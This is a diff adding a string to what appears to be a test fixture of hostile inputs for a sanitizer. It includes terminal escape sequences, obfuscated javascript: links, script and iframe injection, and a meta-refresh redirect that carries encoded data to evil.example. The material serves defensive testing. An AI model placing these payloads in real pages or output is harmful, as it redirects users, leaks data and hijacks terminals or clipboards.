@@ -29,6 +29,7 @@ TEXTS = (
     "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07 link \x1b]52;c;QUJD\x1b\\ \x9b2J \x08\x08\x08 done",
     "[x](java\tscript:alert(1)) [y](&#106;avascript:alert) <javascript:x> url('https://evil.example/f.woff')",
     "http://evil.example/a?b=Zm9vYmFyYmF6cXV4Zm9v. <script>a</script> <iframe src=//evil.example> <b/onload=x>",
+    "So: <meta http-equiv='refresh' content='0; url=https://evil.example/p?d=Zm9vYmFyYmF6cXV4'> and on it goes",
 )
 
 
